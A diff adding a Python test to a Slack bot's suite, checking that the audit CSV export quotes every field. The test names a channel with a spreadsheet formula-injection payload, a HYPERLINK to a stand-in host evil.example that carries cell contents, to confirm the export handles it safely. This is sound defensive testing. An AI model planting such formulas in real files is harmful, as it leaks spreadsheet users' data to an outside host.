@@ -111,3 +111,18 @@ async def test_with_audit_log_lines_each_look_is_one_json_line_with_no_answer(
         assert person not in everything, "an answerer is in the logs"
     for word in ("early", "late", "responses"):
         assert word not in "\n".join(lines)
+
+
+async def test_every_field_of_the_audit_csv_is_quoted(
+    wellspring: Wellspring, slack: SignedSlackClient, fake_slack: FakeSlack, clock: MovableClock
+) -> None:
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
+    fake_slack.channels["C0TEAM"] = formula
+    await looked_at_a_team(wellspring, slack, fake_slack, clock)
+    await command(wellspring, slack, fake_slack, "/pulse", "audit export", "D0SUPER")
+    [content] = fake_slack.uploads.values()
+    rows = list(csv.reader(io.StringIO(content.decode())))
+    [team_row] = [row for row in rows if row[2] == "C0TEAM"]
+    assert team_row[3] == "#" + formula, "Slack names a channel with a leading #"
+    lines = content.decode().splitlines()
+    assert all(line.startswith('"') and line.endswith('"') for line in lines), "every field quoted"
